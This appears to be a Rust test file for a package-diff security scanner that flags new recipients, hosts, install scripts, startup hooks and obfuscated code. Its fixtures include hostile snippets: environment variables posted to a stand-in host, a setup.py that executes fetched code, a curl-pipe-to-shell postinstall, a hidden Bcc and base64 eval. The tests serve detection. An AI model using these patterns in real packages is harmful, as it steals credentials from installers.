//! What is new, what only moved, and what weighs how much.
use mcpsec_model::finding::Severity;

use super::*;
use crate::content::package;

fn facts(files: &[(&str, &str)]) -> PackageFacts {
    PackageFacts::collect(files.iter().filter_map(|(path, text)| package::read(path, text.as_bytes())))
}

fn id(text: &str) -> PackageId {
    text.parse().expect("a package id")
}

/// One package in two versions.
fn change(old: &[(&str, &str)], new: &[(&str, &str)]) -> Vec<Finding> {
    let (before, after) = (facts(old), facts(new));
    let (a, b) = (id("pypi:mailer@1.0.0"), id("pypi:mailer@1.0.1"));
    compare(&[Version { id: &a, facts: &before }], &[Version { id: &b, facts: &after }], Detail::Decisions)
}

fn first_look(files: &[(&str, &str)]) -> Vec<Finding> {
    let facts = facts(files);
    let id = id("pypi:mailer@1.0.0");
    compare(&[], &[Version { id: &id, facts: &facts }], Detail::Decisions)
}

fn denied(findings: &[Finding]) -> Vec<String> {
    let denied =
        findings.iter().filter(|finding| finding.severity() == Severity::High && finding.confidence > Confidence::Low);
    denied
        .map(|finding| {
            let place = finding.place.as_ref().expect("every such finding has a place");
            assert_eq!(
                finding.subject,
                format!("pypi:mailer@{}/{}", finding.subject.split(['@', '/']).nth(1).unwrap_or_default(), place.file)
            );
            format!("{} {}:{}", finding.rule.id(), place.file, place.line)
        })
        .collect()
}

const SEND: &str = "import httpx\n\ndef send(to, text):\n    body = {'To': to, 'TextBody': text}\n    httpx.post('https://api.mailer.test/email', json=body)\n";

#[test]
fn one_added_line_is_found_on_its_line() {
    let evil = SEND.replace("'To': to,", "'To': to,\n        'Bcc': 'copy@drop.invalid',");
    assert_eq!(
        denied(&change(&[("mailer/send.py", SEND)], &[("mailer/send.py", &evil)])),
        ["new-recipient mailer/send.py:5"]
    );
    assert_eq!(denied(&change(&[("mailer/send.py", SEND)], &[("mailer/send.py", SEND)])), Vec::<String>::new());
    // Somebody who had it before may keep it, in another file as well.
    assert_eq!(denied(&change(&[("mailer/send.py", &evil)], &[("mailer/mail/out.py", &evil)])), Vec::<String>::new());
    assert_eq!(denied(&first_look(&[("mailer/send.py", &evil)])), ["new-recipient mailer/send.py:5"]);
}

#[test]
fn what_moved_is_not_new() {
    let more = "import subprocess\nsubprocess.run(['ls'])\nURL = 'https://api.other.test/x'\n";
    let findings = change(&[("a.py", SEND), ("b.py", more)], &[("x/y.py", &format!("{SEND}{more}"))]);
    assert_eq!(findings, []);
    // Nor is what a dependency did already, which is now bundled.
    let (old, left, new) =
        (facts(&[("a.py", SEND)]), facts(&[("l.py", more)]), facts(&[("a.py", SEND), ("vendor/l.py", more)]));
    let (a, l, b) = (id("pypi:mailer@1"), id("pypi:left@1"), id("pypi:mailer@2"));
    let before = [Version { id: &a, facts: &old }, Version { id: &l, facts: &left }];
    let findings = compare(&before, &[Version { id: &b, facts: &new }], Detail::Decisions);
    assert!(
        findings.iter().all(|finding| finding.rule != Rule::NewHost || finding.severity() == Severity::Info),
        "{findings:?}"
    );
}

#[test]
fn hosts_are_graded_by_what_stands_beside_them() {
    let host =
        |findings: &[Finding]| findings.iter().find(|finding| finding.rule == Rule::NewHost).map(Finding::severity);
    let with = |line: &str| change(&[("a.py", SEND)], &[("a.py", &format!("{SEND}{line}\n"))]);
    assert_eq!(host(&with("URL = 'https://eu.mailer.test/x'")), Some(Severity::Info), "its own domain");
    assert_eq!(host(&with("URL = 'https://drop.other.test/x'")), Some(Severity::Medium));
    let quiet = "def send(to, text):\n    return text\n";
    let loud = "import os, httpx\n\ndef send(to, text):\n    httpx.get('https://drop.other.test', params={'a': str(list(os.environ.items()))[:9]})\n    return text\n";
    let findings = change(&[("a.py", quiet)], &[("a.py", loud)]);
    assert_eq!(host(&findings), Some(Severity::High));
    let rules: BTreeSet<Rule> = findings.iter().map(|finding| finding.rule).collect();
    assert!(rules.is_superset(&BTreeSet::from([Rule::NewHost, Rule::NewNetwork, Rule::NewEnvironment])), "{rules:?}");
}

#[test]
fn tests_and_examples_raise_nothing_unless_something_runs_them() {
    let evil = "import requests, os\nrequests.post('https://drop.other.test', json=dict(os.environ))\n";
    for path in ["tests/test_a.py", "docs/conf.py", "examples/x.py", "mailer/test_send.py"] {
        assert_eq!(denied(&change(&[("a.py", SEND)], &[("a.py", SEND), (path, evil)])), Vec::<String>::new(), "{path}");
    }
    assert_eq!(denied(&change(&[("a.py", SEND)], &[("a.py", SEND), ("contest/a.py", evil)])).len(), 1);
    let json = r#"{"name":"x","scripts":{"postinstall":"python tests/run.py"}}"#;
    let findings = change(&[("a.py", SEND)], &[("a.py", SEND), ("tests/run.py", evil), ("package.json", json)]);
    assert_eq!(denied(&findings), ["new-install-script package.json:1", "credential-theft tests/run.py:2"]);
}

#[test]
fn shell_scripts_count_when_something_runs_them() {
    let script = "echo 'export PATH=x' >> ~/.bashrc\n";
    let lying = change(&[("a.py", SEND)], &[("a.py", SEND), ("bin/install.sh", script)]);
    assert_eq!(denied(&lying), Vec::<String>::new());
    assert!(lying.iter().any(|finding| finding.rule == Rule::StartupHook), "{lying:?}");
    let json = r#"{"name":"x","scripts":{"postinstall":"sh bin/install.sh"}}"#;
    let run = change(&[("a.py", SEND)], &[("a.py", SEND), ("bin/install.sh", script), ("package.json", json)]);
    assert!(denied(&run).contains(&"startup-hook bin/install.sh:1".to_owned()), "{run:?}");
}

#[test]
fn startup_hooks() {
    let pth = "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import mailer.x'])\n";
    assert_eq!(
        denied(&change(&[("a.py", SEND)], &[("a.py", SEND), ("mailer_init.pth", pth)])),
        ["startup-hook mailer_init.pth:1"]
    );
    assert_eq!(denied(&first_look(&[("mailer_init.pth", pth)])), ["startup-hook mailer_init.pth:1"]);
    // Folders for the search path, and what setuptools installs.
    assert_eq!(first_look(&[("mailer.pth", "/some/folder\n")]), []);
    let usual = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n";
    assert_eq!(denied(&first_look(&[("distutils-precedence.pth", usual)])), Vec::<String>::new());
    let setup = "from setuptools import setup\nimport urllib.request as u\nexec(u.urlopen('https://drop.other.test/x').read())\nsetup()\n";
    let plain = "from setuptools import setup\nsetup()\n";
    assert_eq!(
        denied(&change(&[("setup.py", plain)], &[("setup.py", setup)])),
        ["new-dynamic-code setup.py:3", "startup-hook setup.py:3"]
    );
    assert_eq!(denied(&first_look(&[("setup.py", plain)])), Vec::<String>::new());
    // Only the one of the package itself is run; `site` looks for these two wherever it looks for modules.
    let startup = |path: &str| {
        let findings = change(&[("a.py", SEND)], &[("a.py", SEND), (path, setup)]);
        findings.iter().any(|finding| finding.rule == Rule::StartupHook)
    };
    assert!(startup("setup.py") && !startup("mailer/setup.py"));
    assert!(startup("sitecustomize.py") && startup("usercustomize.py") && !startup("a/b/c/sitecustomize.py"));
}

#[test]
fn a_kind_of_sign_is_usual_but_a_recipient_never_is() {
    let with = |line: &str| SEND.replace("'To': to,", &format!("'To': to,\n        {line}"));
    let (one, two) = (with("'Bcc': 'copy@drop.invalid',"), with("'Bcc': 'other@drop.invalid',"));
    assert_eq!(denied(&change(&[("a.py", &one)], &[("a.py", &two)])), ["new-recipient a.py:5"]);
    let (one, two) = ("eval(atob('Y29uc29sZS5sb2coMSk='))", "require('child_' + 'process').exec(x)");
    assert_eq!(denied(&change(&[("a.js", "f()")], &[("a.js", two)])), ["obfuscated-code a.js:1"]);
    assert_eq!(denied(&change(&[("a.js", one)], &[("a.js", two)])), Vec::<String>::new(), "it hid things before");
}

/// The same name and version with other contents is another package.
#[test]
fn one_version_with_other_bytes_is_compared() {
    let (old, new) = (facts(&[("a.py", SEND)]), facts(&[("a.py", "import subprocess\nsubprocess.run(['ls'])\n")]));
    let id = id("pypi:mailer@1.0.0");
    let version = |facts| [Version { id: &id, facts }];
    assert_eq!(compare(&version(&old), &version(&old), Detail::Decisions), []);
    assert!(compare(&version(&old), &version(&new), Detail::Decisions).iter().any(|it| it.rule == Rule::NewProcess));
}

/// What is doubtful is shown where it is new, weighs more where it runs by itself, and is not held against newcomers.
#[test]
fn doubtful_signs_weigh_by_who_runs_them() {
    let doubtful = "import base64\nexec(base64.b64decode(x))\n";
    let rated = |findings: Vec<Finding>| {
        let sign = findings.into_iter().find(|finding| finding.rule == Rule::ObfuscatedCode);
        sign.map(|finding| finding.severity())
    };
    let json = r#"{"name":"x","scripts":{"postinstall":"python run.py"}}"#;
    assert_eq!(rated(change(&[("a.py", SEND)], &[("run.py", doubtful)])), Some(Severity::Low));
    assert_eq!(
        rated(change(&[("a.py", SEND)], &[("run.py", doubtful), ("package.json", json)])),
        Some(Severity::Medium)
    );
    assert_eq!(rated(first_look(&[("run.py", doubtful)])), None);
}

#[test]
fn scripts_that_are_new_changed_or_usual() {
    let with = |script: &str| format!(r#"{{"name":"x","scripts":{{"postinstall":"{script}"}}}}"#);
    let rated = |old: &str, new: &str| {
        let findings = change(&[("package.json", old)], &[("package.json", new)]);
        findings.iter().find(|finding| finding.rule == Rule::NewInstallScript).map(|finding| finding.severity())
    };
    let none = r#"{"name":"x"}"#;
    assert_eq!(rated(none, &with("node setup.js")), Some(Severity::High));
    assert_eq!(rated(none, &with("node-gyp rebuild")), Some(Severity::Low));
    assert_eq!(
        rated(none, &with("echo ./run.js")),
        Some(Severity::High),
        "what names a file of the package is not usual"
    );
    assert_eq!(rated(&with("node a.js"), &with("node b.js")), Some(Severity::Medium));
    assert_eq!(rated(&with("node a.js"), &with("node a.js")), None);
    let piped = first_look(&[("package.json", &with("curl -s https://drop.other.test/i.sh | sh"))]);
    assert_eq!(denied(&piped), ["new-dynamic-code package.json:1"]);
}

#[test]
fn what_a_package_says_of_itself() {
    let json = |main: &str, owner: &str, needs: &str| {
        format!(r#"{{"name":"x","main":"{main}","repository":"{owner}/name","dependencies":{{{needs}}}}}"#)
    };
    let findings = change(
        &[("package.json", &json("a.js", "one", ""))],
        &[("package.json", &json("b.js", "two", r#""left":"1""#))],
    );
    let rules: Vec<(Rule, Severity)> = findings.iter().map(|finding| (finding.rule, finding.severity())).collect();
    assert_eq!(
        rules,
        [
            (Rule::EntryChanged, Severity::Low),
            (Rule::RepositoryMismatch, Severity::Low),
            (Rule::NewDependency, Severity::Info)
        ]
    );
}

#[test]
fn a_package_that_is_new_is_told_in_one_finding() {
    let (old, new) = (
        facts(&[("a.py", SEND)]),
        facts(&[("l.py", "import subprocess, os\nsubprocess.run(['ls'])\nos.getenv('A')\n")]),
    );
    let (a, l) = (id("pypi:mailer@1"), id("pypi:left@1"));
    let after = [Version { id: &a, facts: &old }, Version { id: &l, facts: &new }];
    let findings = compare(&after[..1], &after, Detail::Decisions);
    assert_eq!(findings.len(), 1, "{findings:?}");
    assert_eq!((findings[0].rule, findings[0].severity()), (Rule::NewDependency, Severity::Info));
    assert_eq!(findings[0].message, "this package is new in the closure; it starts programs");
}

#[test]
fn natives_and_code_that_cannot_be_read() {
    let read = |files: &[(&str, &[u8])]| {
        PackageFacts::collect(files.iter().filter_map(|(path, bytes)| package::read(path, bytes)))
    };
    let old = read(&[("a.py", SEND.as_bytes())]);
    let deep = "(".repeat(10_000);
    let new = read(&[
        ("a.py", SEND.as_bytes()),
        ("lib/x.bin", b"\x7fELF\x02\x01\x01\0"),
        ("b.py", deep.as_bytes()),
        ("x.wasm", b"\0asm\x01\0\0\0"),
    ]);
    let (a, b) = (id("pypi:mailer@1"), id("pypi:mailer@2"));
    let findings = compare(&[Version { id: &a, facts: &old }], &[Version { id: &b, facts: &new }], Detail::Decisions);
    let rules: Vec<Rule> = findings.iter().map(|finding| finding.rule).collect();
    assert_eq!(rules, [Rule::NewNativeCode, Rule::NewNativeCode, Rule::UnreadableCode]);
}

/// Facts survive the cache.
#[test]
fn facts_are_the_same_after_being_written_down() {
    let facts = facts(&[
        ("a.py", SEND),
        ("package.json", r#"{"scripts":{"install":"node x"},"main":"x"}"#),
        ("x.pth", "import os\n"),
    ]);
    let text = serde_json::to_string(&facts).expect("JSON");
    assert_eq!(serde_json::from_str::<PackageFacts>(&text).expect("facts"), facts);
}

const MAILER: &str = include_str!("../../../../../testdata/content/mailer.mjs");
const WORM: &str = include_str!("../../../../../testdata/content/worm.js");
const HIDDEN: &str = include_str!("../../../../../testdata/content/hidden.js");
const SETUP: &str = include_str!("../../../../../testdata/content/setup.py");
const PTH: &str = include_str!("../../../../../testdata/content/fetcher_init.pth");

#[test]
fn known_attacks_are_denied_with_file_and_line() {
    let json = r#"{"name":"mailer","bin":"dist/mailer.mjs"}"#;
    let old = [("package.json", json), ("dist/mailer.mjs", MAILER)];
    assert_eq!(denied(&first_look(&old)), Vec::<String>::new());
    let copied = MAILER.replace("    To: to,\n", "    To: to,\n    Bcc: \"copy@drop.invalid\",\n");
    assert_eq!(
        denied(&change(&old, &[("package.json", json), ("dist/mailer.mjs", &copied)])),
        ["new-recipient dist/mailer.mjs:11"]
    );

    let scripted =
        "{\"name\":\"mailer\",\n\"bin\":\"dist/mailer.mjs\",\n\"scripts\":{\"postinstall\":\"node bundle.js\"}}";
    let worm = denied(&change(&old, &[("package.json", scripted), ("dist/mailer.mjs", MAILER), ("bundle.js", WORM)]));
    for expected in ["new-install-script package.json:3", "credential-theft bundle.js:", "self-spreading bundle.js:"] {
        assert!(worm.iter().any(|line| line.starts_with(expected)), "{expected}: {worm:?}");
    }
    let hidden =
        denied(&change(&old, &[("package.json", json), ("dist/mailer.mjs", MAILER), ("dist/hidden.js", HIDDEN)]));
    assert!(hidden.contains(&"obfuscated-code dist/hidden.js:2".to_owned()), "{hidden:?}");
    assert!(!denied(&first_look(&[("index.js", HIDDEN)])).is_empty());

    let plain = "from setuptools import setup\nsetup()\n";
    let built = denied(&change(&[("setup.py", plain)], &[("setup.py", SETUP)]));
    assert_eq!(built, ["credential-theft setup.py:14", "new-host setup.py:14", "startup-hook setup.py:14"]);
    let started = denied(&change(&[("a.py", SEND)], &[("a.py", SEND), ("fetcher_init.pth", PTH)]));
    for expected in
        ["startup-hook fetcher_init.pth:1", "obfuscated-code fetcher_init.pth:1", "credential-theft fetcher_init.pth:1"]
    {
        assert!(started.contains(&expected.to_owned()), "{expected}: {started:?}");
    }
}
